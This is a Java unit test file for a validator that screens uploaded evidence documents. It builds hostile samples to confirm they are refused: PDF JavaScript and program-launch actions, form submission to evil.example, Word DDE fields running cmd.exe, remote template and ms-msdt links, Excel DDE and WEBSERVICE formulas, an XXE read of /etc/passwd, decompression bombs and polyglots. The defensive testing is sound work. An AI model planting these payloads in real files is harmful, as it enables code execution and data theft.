package org.groundwork.evidence;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.groundwork.evidence.SampleFiles.content;
import static org.groundwork.evidence.SampleFiles.docx;
import static org.groundwork.evidence.SampleFiles.joined;
import static org.groundwork.evidence.SampleFiles.openDocument;
import static org.groundwork.evidence.SampleFiles.pdf;
import static org.groundwork.evidence.SampleFiles.pdfOf;
import static org.groundwork.evidence.SampleFiles.picture;
import static org.groundwork.evidence.SampleFiles.png;
import static org.groundwork.evidence.SampleFiles.pptx;
import static org.groundwork.evidence.SampleFiles.replaced;
import static org.groundwork.evidence.SampleFiles.with;
import static org.groundwork.evidence.SampleFiles.xlsx;
import static org.groundwork.evidence.SampleFiles.zip;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.ConcurrentHashMap;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.groundwork.evidence.Looked.Fault;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

/** What is taken as evidence, and what is not; every hostile file is made here. */
class EvidenceFilesTest {

    private static final String RELATIONSHIPS = "word/_rels/document.xml.rels";
    private static final String DOCUMENT = "word/document.xml";
    private static final byte[] OLD = {
        (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
    };

    private static final Map<FileKind, byte[]> GOOD = new ConcurrentHashMap<>();

    private static byte[] good(FileKind kind) {
        return GOOD.computeIfAbsent(kind, EvidenceFilesTest::made).clone();
    }

    private static byte[] made(FileKind kind) {
        return switch (kind) {
            case PDF -> pdf();
            case PNG -> png();
            case JPEG -> picture("jpg");
            case GIF -> picture("gif");
            case WEBP -> SampleFiles.webp();
            case DOCX -> docx();
            case XLSX -> xlsx();
            case PPTX -> pptx();
            case ODT, ODS, ODP -> openDocument(kind, Map.of());
            case TEXT, CSV, MARKDOWN -> "Größe;Wert\r\n=1+1;2\r\n".getBytes(UTF_8);
        };
    }

    private static void refused(Fault fault, String name, byte[] content) {
        assertThat(EvidenceFiles.look(name, content))
                .isInstanceOfSatisfying(
                        Looked.Refused.class,
                        refused -> assertThat(refused.fault())
                                .as(name + " " + refused.where())
                                .isEqualTo(fault));
    }

    private static void fine(String name, byte[] content) {
        assertThat(EvidenceFiles.look(name, content)).isInstanceOf(Looked.Fine.class);
    }

    @ParameterizedTest
    @EnumSource(FileKind.class)
    void takesWhatPeopleHave(FileKind kind) {
        for (String extension : kind.extensions()) {
            assertThat(EvidenceFiles.look("Plan 3.b." + extension.toUpperCase(java.util.Locale.ROOT), good(kind)))
                    .isEqualTo(new Looked.Fine(kind));
        }
    }

    /** Kinds of text bear no mark that would tell one from the other. */
    @ParameterizedTest
    @EnumSource(FileKind.class)
    void takesNothingUnderTheNameOfSomethingElse(FileKind kind) {
        for (FileKind other : FileKind.values()) {
            if (other != kind && !(other.isText() && kind.isText())) {
                refused(Fault.OTHER_THAN_NAMED, "file." + kind.extensions().getFirst(), good(other));
            }
        }
    }

    @ParameterizedTest
    @EnumSource(
            value = FileKind.class,
            names = {"TEXT", "CSV", "MARKDOWN"},
            mode = EnumSource.Mode.EXCLUDE)
    void takesNothingThatIsCutOff(FileKind kind) {
        byte[] whole = good(kind);
        for (int length : List.of(whole.length - 8, whole.length / 2, 30)) {
            assertThat(EvidenceFiles.look("file." + kind.extensions().getFirst(), Arrays.copyOf(whole, length)))
                    .as("%s of %s bytes", length, whole.length)
                    .isInstanceOf(Looked.Refused.class);
        }
    }

    @ParameterizedTest
    @EnumSource(FileKind.class)
    void neverFailsOnWhatIsBroken(FileKind kind) {
        Random random = new Random(kind.ordinal());
        byte[] whole = good(kind);
        for (int i = 0; i < 100; i++) {
            byte[] broken = Arrays.copyOf(whole, random.nextInt(whole.length) + 1);
            for (int j = random.nextInt(6); j > 0; j--) {
                broken[random.nextInt(broken.length)] = (byte) random.nextInt(256);
            }
            assertThat(EvidenceFiles.look("file." + kind.extensions().getFirst(), broken))
                    .isNotNull();
        }
    }

    @Test
    void saysWhatToDoWithKindsThatAreNotTaken() {
        byte[] text = "text".getBytes(UTF_8);
        refused(Fault.EMPTY, "plan.pdf", new byte[0]);
        refused(Fault.NOT_TAKEN, "plan", text);
        refused(Fault.NOT_TAKEN, "photo.heic", text);
        refused(Fault.WEB_PAGE, "drawing.svg", text);
        refused(Fault.WEB_PAGE, "page.HTML", text);
        refused(Fault.OLD_OFFICE, "letter.doc", text);
        refused(Fault.MACRO_FORMAT, "costs.xlsm", text);
        refused(Fault.MAIL, "offer.eml", text);
        refused(Fault.ARCHIVE, "all.zip", text);
    }

    static Stream<Arguments> pdfs() {
        return Stream.of(
                Arguments.of(Fault.SCRIPT, "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", ""),
                Arguments.of(Fault.SCRIPT, "/OpenAction<</S/JavaScript/JS 9 0 R>>", "9 0 obj\n(x)\nendobj"),
                Arguments.of(Fault.SCRIPT, "/OpenAction << /S /J#61vaScript /JS (x) >>", ""),
                Arguments.of(Fault.SCRIPT, "/OpenAction << /#53 %comment\n /JavaScript /JS (x) >>", ""),
                Arguments.of(Fault.SCRIPT, "/Names << /JavaScript 8 0 R >>", "8 0 obj\n<< /Names [] >>\nendobj"),
                Arguments.of(Fault.STARTS_PROGRAMS, "/OpenAction << /S /Launch /F (calc.exe) >>", ""),
                Arguments.of(Fault.STARTS_PROGRAMS, "", "7 0 obj\n<< /S % no\r/Launch /F (calc.exe) >>\nendobj"),
                Arguments.of(Fault.EMBEDDED, "/Names << /EmbeddedFiles 8 0 R >>", ""),
                Arguments.of(Fault.EMBEDDED, "", "7 0 obj\n<< /Type/EmbeddedFile /Length 0 >>\nendobj"),
                Arguments.of(Fault.DYNAMIC_FORM, "/AcroForm << /XFA [(a) 7 0 R] >>", ""),
                Arguments.of(Fault.SENDS_DATA, "/AA << /WC << /S /SubmitForm /F (http://evil.example) >> >>", ""),
                Arguments.of(
                        Fault.OPENS_OTHER_FILES, "/OpenAction << /S /GoToR /F (//evil.example/share) /D [0] >>", ""),
                Arguments.of(Fault.PLAYS_MEDIA, "", "7 0 obj\n<< /Subtype /RichMedia >>\nendobj"));
    }

    @ParameterizedTest
    @MethodSource("pdfs")
    void takesNoPdfInWhichSomethingActs(Fault fault, String catalog, String object) {
        refused(fault, "plan.pdf", pdf(catalog, object));
    }

    @Test
    void takesPdfsThatOnlySpeakOfScripts() {
        fine("plan.pdf", pdf("/OpenAction [3 0 R /Fit]"));
        fine(
                "plan.pdf",
                pdf("", "7 0 obj\n<< /S /URI /URI (https://developer.example/docs/Web/JavaScript) >>\nendobj"));
    }

    private static byte[] packed(byte[] content) {
        return SampleFiles.bytes(out -> {
            try (DeflaterOutputStream deflater = new DeflaterOutputStream(out)) {
                deflater.write(content);
            }
        });
    }

    private static byte[] stream(String dictionary, byte[] data) {
        return joined(
                ("7 0 obj\n<< " + dictionary + " /Length " + data.length + " >>\nstream\n").getBytes(ISO_8859_1),
                data,
                "\nendstream\nendobj".getBytes(ISO_8859_1));
    }

    @Test
    void looksIntoWhatIsPackedInAPdf() {
        byte[] script = packed("9 0 << /S /JavaScript /JS (app.alert(1)) >>".getBytes(ISO_8859_1));
        byte[] headless = script.clone();
        headless[0] = 0;

        refused(
                Fault.SCRIPT,
                "plan.pdf",
                pdfOf("", stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", script)));
        refused(
                Fault.SCRIPT,
                "plan.pdf",
                pdfOf("", stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", headless)));
        refused(
                Fault.HIDES_OBJECTS,
                "plan.pdf",
                pdfOf("", stream("/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]", script)));
        refused(
                Fault.HIDES_OBJECTS,
                "plan.pdf",
                pdfOf("", stream("/N 1 /First 4 " + " ".repeat(70_000) + " /Fil#74er /LZWDecode", script)));
        refused(
                Fault.HIDES_OBJECTS,
                "plan.pdf",
                pdfOf("", stream("/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>", script)));
        fine("plan.pdf", pdfOf("", stream("/Filter /FlateDecode", packed("BT (text) Tj ET".getBytes(ISO_8859_1)))));
    }

    /** The word that begins it stands where one piece ends and the next one begins. */
    @Test
    void seesWhatStandsAcrossTwoPieces() {
        for (int before = (1 << 16) - 12; before < (1 << 16) + 2 * 2048; before += 97) {
            byte[] content = ("x".repeat(before) + "/S /JavaScript /JS (x)").getBytes(ISO_8859_1);
            refused(Fault.SCRIPT, "plan.pdf", pdfOf("", stream("/Filter /FlateDecode", packed(content))));
        }
    }

    @Test
    void stopsUnpackingWhatGrowsWithoutEnd() {
        byte[] bomb = packed(new byte[40 << 20]);
        refused(
                Fault.GROWS_TOO_LARGE,
                "plan.pdf",
                pdfOf("", stream("/Type /ObjStm /First 1 /Filter /FlateDecode", bomb)));
        byte[][] many = new byte[8][];
        Arrays.fill(many, stream("/Filter /FlateDecode", bomb));
        refused(Fault.GROWS_TOO_LARGE, "plan.pdf", pdfOf("", joined(many)));

        byte[] zeros = new byte[201 << 20];
        Arrays.fill(zeros, (byte) ' ');
        refused(Fault.GROWS_TOO_LARGE, "letter.docx", with(docx(), "word/media/image1.png", zeros));
        refused(
                Fault.GROWS_TOO_LARGE,
                "letter.docx",
                with(docx(), "word/comments.xml", joined("<a>".getBytes(UTF_8), Arrays.copyOf(zeros, 5 << 20))));
    }

    @Test
    void boundsWhatAParserWouldHoldAtOnce() {
        String long5 = "x".repeat(5 << 20);
        for (String odd : List.of(
                "<a b=\"" + long5 + "\"/>", "<a><!--" + "<x>".repeat(2 << 20) + "--></a>", "<a>" + long5 + "</a>")) {
            refused(Fault.GROWS_TOO_LARGE, "letter.docx", with(docx(), "word/comments.xml", odd));
        }
        refused(
                Fault.DAMAGED,
                "letter.docx",
                with(docx(), "word/comments.xml", "<!DOCTYPE a [<!ENTITY b \"b\">]><a>&b;</a>"));
        refused(
                Fault.DAMAGED,
                "letter.docx",
                with(
                        docx(),
                        "word/comments.xml",
                        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>"));
    }

    @Test
    void countsThePartsOfAnOfficeFile() {
        Map<String, byte[]> parts = new LinkedHashMap<>(SampleFiles.unzip(docx()));
        for (int i = 0; i < 10_000; i++) {
            parts.put("word/media/" + i + ".png", new byte[1]);
        }
        refused(Fault.TOO_MANY_PARTS, "letter.docx", zip(parts));
    }

    @Test
    void takesNoEncryptedFile() throws IOException {
        ByteArrayOutputStream locked = new ByteArrayOutputStream();
        try (PDDocument document = new PDDocument()) {
            document.addPage(new PDPage());
            document.protect(new StandardProtectionPolicy("owner", "user", new AccessPermission()));
            document.save(locked);
        }
        refused(Fault.ENCRYPTED, "plan.pdf", locked.toByteArray());
        refused(Fault.ENCRYPTED, "costs.xlsx", joined(OLD, new byte[500], "EncryptedPackage".getBytes(UTF_16LE)));
        refused(
                Fault.ENCRYPTED,
                "letter.odt",
                openDocument(FileKind.ODT, Map.of("META-INF/manifest.xml", "<m><encryption-data/></m>")));
        byte[] flagged = docx();
        int central = Bytes.find(flagged, Bytes.of("PK\1\2"), 0, flagged.length);
        flagged[central + 8] |= 1;
        refused(Fault.ENCRYPTED, "letter.docx", flagged);
    }

    static Stream<Arguments> wordFiles() {
        String relationship = "</Relationships>";
        return Stream.of(
                Arguments.of(Fault.MACROS, with(docx(), "word/vbaProject.bin", OLD)),
                Arguments.of(
                        Fault.MACROS,
                        replaced(
                                docx(),
                                "[Content_Types].xml",
                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                                "application/vnd.ms-word.document.macroEnabled.main+xml")),
                Arguments.of(Fault.OBJECT, with(docx(), "word/embeddings/oleObject1.bin", OLD)),
                Arguments.of(Fault.OBJECT, with(docx(), "word/activeX/activeX1.xml", "<a/>")),
                Arguments.of(Fault.EMBEDDED, with(docx(), "word/embeddings/run.bin", "MZ program")),
                Arguments.of(Fault.EMBEDDED, with(docx(), "word/part.htm", "<html>")),
                Arguments.of(
                        Fault.LOADS_FROM_ELSEWHERE,
                        replaced(
                                docx(),
                                RELATIONSHIPS,
                                relationship,
                                "<Relationship Id=\"t\" Type=\"http://x/attachedTemplate\""
                                        + " Target=\"https://evil.example/a.dotm\""
                                        + " TargetMode=\"External\"/>" + relationship)),
                Arguments.of(
                        Fault.LOADS_FROM_ELSEWHERE,
                        replaced(
                                docx(),
                                RELATIONSHIPS,
                                relationship,
                                "<Relationship Id=\"t\" Type=\"http://x/image\" Target=\"\\\\evil.example\\a.png\""
                                        + " TargetMode=\"External\"/>" + relationship)),
                Arguments.of(
                        Fault.ODD_LINK,
                        replaced(docx(), RELATIONSHIPS, "https://wiki.example/churn", "ms-msdt:/id PCWDiagnostic")),
                Arguments.of(
                        Fault.COMMAND_IN_FIELD, fields("<w:instrText>DDEAUTO c:\\\\cmd.exe \"/k calc\"</w:instrText>")),
                Arguments.of(
                        Fault.COMMAND_IN_FIELD,
                        fields("<w:instrText> D</w:instrText><w:x/><w:instrText>DE cmd</w:instrText>")),
                Arguments.of(
                        Fault.COMMAND_IN_FIELD,
                        fields("<w:fldChar w:fldCharType=\"begin\"/><w:instrText>QUOTE 68 68 69</w:instrText>"
                                + "<w:fldChar w:fldCharType=\"end\"/>")),
                Arguments.of(Fault.EMBEDDED, with(docx(), "word/media/image1.png", docx())),
                Arguments.of(
                        Fault.EMBEDDED,
                        with(docx(), "word/embeddings/a.docx", with(docx(), "word/embeddings/b.docx", docx()))),
                Arguments.of(
                        Fault.MACROS, with(docx(), "word/embeddings/a.xlsx", with(xlsx(), "xl/vbaProject.bin", OLD))));
    }

    private static byte[] fields(String inside) {
        return replaced(
                docx(),
                DOCUMENT,
                "</w:body>",
                "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/>" + inside
                        + "<w:fldChar w:fldCharType=\"separate\"/><w:t>x</w:t><w:fldChar"
                        + " w:fldCharType=\"end\"/></w:r></w:p></w:body>");
    }

    @ParameterizedTest
    @MethodSource("wordFiles")
    void takesNoOfficeFileInWhichSomethingActs(Fault fault, byte[] content) {
        refused(fault, "letter.docx", content);
    }

    @Test
    void takesOfficeFilesWithWhatTheyUsuallyHold() {
        fine("letter.docx", fields("<w:instrText> PAGE \\* MERGEFORMAT </w:instrText>"));
        fine("letter.docx", with(docx(), "word/embeddings/Microsoft_Excel_Sheet1.xlsx", xlsx()));
        fine(
                "letter.docx",
                replaced(
                        docx(),
                        RELATIONSHIPS,
                        "</Relationships>",
                        "<Relationship Id=\"t\" Type=\"http://x/attachedTemplate\" TargetMode=\"External\""
                                + " Target=\"file:///C:\\Templates\\Report.dotx\"/></Relationships>"));
    }

    @Test
    void takesNoWorkbookThatFetchesOrCalls() {
        String sheet = "xl/worksheets/sheet1.xml";
        for (String formula : List.of(
                "cmd|'/c calc'!A0",
                "1+WEBSERVICE(\"https://evil.example\")",
                "MSEXCEL|'\\..\\a'!''",
                "CALL(\"a\",\"b\")")) {
            refused(
                    Fault.COMMAND_IN_FIELD,
                    "costs.xlsx",
                    replaced(
                            xlsx(), sheet, "<f>IF(A1>3,\"yes | no!\",SUM(Costs!A1:A9))</f>", "<f>" + formula + "</f>"));
        }
        refused(Fault.LOADS_FROM_ELSEWHERE, "costs.xlsx", with(xlsx(), "xl/externalLinks/externalLink1.xml", "<a/>"));
        refused(Fault.DATA_CONNECTION, "costs.xlsx", with(xlsx(), "xl/connections.xml", "<a/>"));
        refused(Fault.MACROS, "costs.xlsx", with(xlsx(), "xl/macrosheets/sheet1.xml", "<a/>"));
        refused(
                Fault.STARTS_PROGRAMS,
                "talk.pptx",
                with(pptx(), "ppt/slides/slide9.xml", "<a><hlinkClick action=\"ppaction://program\"/></a>"));
    }

    @Test
    void takesNoOpenDocumentInWhichSomethingActs() {
        Map<String, Fault> contents = new LinkedHashMap<>();
        contents.put(
                "<script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:a\"/>",
                Fault.MACROS);
        contents.put("<text:a xlink:href=\"vnd.sun.star.script:a\"/>", Fault.ODD_LINK);
        contents.put("<draw:image xlink:href=\"https://evil.example/a.png\"/>", Fault.LOADS_FROM_ELSEWHERE);
        contents.put("<draw:object-ole xlink:href=\"./Object 1\"/>", Fault.OBJECT);
        contents.put("<office:dde-source/>", Fault.COMMAND_IN_FIELD);
        contents.put(
                "<table:table-cell table:formula=\"of:=DDE(&quot;a&quot;;&quot;b&quot;)\"/>", Fault.COMMAND_IN_FIELD);
        contents.forEach((body, fault) ->
                refused(fault, "letter.odt", openDocument(FileKind.ODT, Map.of("content.xml", content(body)))));
        refused(Fault.MACROS, "letter.odt", openDocument(FileKind.ODT, Map.of("Basic/Standard/Module1.xml", "<a/>")));
        refused(Fault.MACROS, "letter.odt", openDocument(FileKind.ODT, Map.of("Scripts/python/a.py", "x")));
        fine(
                "letter.odt",
                openDocument(
                        FileKind.ODT,
                        Map.of(
                                "content.xml",
                                content("<text:a xlink:href=\"https://wiki.example\"/><draw:image"
                                        + " xlink:href=\"Pictures/1.png\"/>"))));
    }

    @Test
    void takesNothingThatIsTwoFilesAtOnce() {
        byte[] archive = zip(Map.of("a.txt", new byte[10]));
        refused(Fault.TWO_IN_ONE, "photo.png", joined(png(), archive));
        refused(Fault.TWO_IN_ONE, "photo.jpg", joined(picture("jpg"), archive));
        refused(Fault.TWO_IN_ONE, "plan.pdf", joined(pdf(), archive));
        refused(Fault.BEHIND_THE_END, "photo.png", joined(png(), "<script>".getBytes(UTF_8)));
        refused(Fault.BEHIND_THE_END, "photo.jpg", joined(picture("jpg"), new byte[1100], pdf()));
        refused(Fault.BEHIND_THE_END, "photo.gif", joined(picture("gif"), new byte[] {1}));
        refused(Fault.BEHIND_THE_END, "plan.pdf", joined(pdf(), "MZ".getBytes(UTF_8)));
        refused(Fault.BEHIND_THE_END, "letter.docx", joined(docx(), new byte[] {1}));
        refused(Fault.DAMAGED, "letter.docx", joined("PK\3\4".getBytes(ISO_8859_1), new byte[40], docx()));
        byte[] gif = joined(
                "GIF89a\1\0\1\0\0\0\0!\u00FE\10".getBytes(ISO_8859_1), "%PDF-1.7".getBytes(UTF_8), new byte[] {0, 0x3B
                });
        refused(Fault.TWO_IN_ONE, "photo.gif", gif);
        // a telephone’s second picture
        fine("photo.jpg", joined(picture("jpg"), picture("jpg")));
    }

    @Test
    void takesNoPictureThatWouldFillAMemory() {
        refused(Fault.PICTURE_TOO_LARGE, "photo.png", SampleFiles.pngOf(60_000, 60_000));
        refused(Fault.DAMAGED, "photo.png", SampleFiles.pngOf(0, 10));
    }

    @Test
    void takesTextOfPeopleOnly() {
        fine("notes.txt", "Straße, žlutý, שלום 🙂\n".getBytes(UTF_8));
        fine("notes.txt", "Stra\u00DFe".getBytes(ISO_8859_1));
        fine("notes.csv", new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, 'a', ';', 'b'});
        refused(Fault.NO_TEXT, "notes.txt", "a\0b".getBytes(UTF_8));
        refused(Fault.NO_TEXT, "notes.csv", "a;b".getBytes(UTF_16LE));
        refused(Fault.NO_TEXT, "notes.txt", "\33[2J".getBytes(UTF_8));
        refused(Fault.NO_TEXT, "notes.txt", new byte[] {'a', (byte) 0x81, 'b'});
        refused(Fault.OTHER_THAN_NAMED, "notes.txt", " <!-- x --> <HTML><script>".getBytes(UTF_8));
        refused(Fault.OTHER_THAN_NAMED, "notes.md", "<svg xmlns=\"a\"/>".getBytes(UTF_8));
    }

    @Test
    void saysWhereItIsInWordsThatShowNoTrick() {
        assertThat(EvidenceFiles.look(
                        "letter.docx",
                        replaced(docx(), RELATIONSHIPS, "https://wiki.example/churn", "search-ms:\u202Equery")))
                .isEqualTo(new Looked.Refused(Fault.ODD_LINK, List.of(RELATIONSHIPS, "search-ms: query")));
    }
}
